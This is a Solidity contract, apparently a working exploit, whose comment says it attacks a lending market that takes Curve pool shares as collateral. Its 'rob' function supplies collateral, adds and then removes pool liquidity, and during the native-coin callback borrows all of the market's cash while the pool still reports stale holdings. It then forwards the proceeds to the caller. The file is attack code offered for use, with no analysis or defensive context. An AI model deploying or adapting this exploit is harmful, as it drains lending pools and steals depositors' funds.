// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IPool {
    function token() external view returns (address);
    function coins(uint256 index) external view returns (address);
    function add_liquidity(uint256[2] calldata amounts, uint256 least, bool native)
        external
        payable
        returns (uint256);
    function remove_liquidity(uint256 amount, uint256[2] calldata least, bool native) external;
}

interface IComptroller {
    function enterMarkets(address[] calldata markets) external returns (uint256[] memory);
}

interface IMarket {
    function mint(uint256 amount) external returns (uint256);
    function borrow(uint256 amount) external returns (uint256);
    function getCash() external view returns (uint256);
    function underlying() external view returns (address);
}

/// Qi's market of a Curve share: takes most of the pool's liquidity out, and borrows while the pool has paid the native
/// coin but not yet lowered what it says to hold.
contract PriceHolder {
    IMarket private lent;
    address private pool;

    function rob(address pool_, address comptroller, address collateral, address lent_) external {
        (pool, lent) = (pool_, IMarket(lent_));
        IERC20 share = IERC20(IMarket(collateral).underlying());
        share.approve(collateral, type(uint256).max);
        require(IMarket(collateral).mint(share.balanceOf(address(this))) == 0, "not supplied");
        address[] memory markets = new address[](1);
        markets[0] = collateral;
        IComptroller(comptroller).enterMarkets(markets);

        uint256[2] memory amounts;
        for (uint256 i = 0; i < 2; i++) {
            IERC20 coin = IERC20(IPool(pool).coins(i));
            amounts[i] = coin.balanceOf(address(this));
            coin.approve(pool, amounts[i]);
        }
        uint256 minted = IPool(pool).add_liquidity(amounts, 0, false);
        uint256[2] memory least;
        IPool(pool).remove_liquidity(minted, least, true);

        IERC20 token = IERC20(lent.underlying());
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    receive() external payable {
        if (msg.sender == pool) require(lent.borrow(lent.getCash()) == 0, "not lent");
    }
}
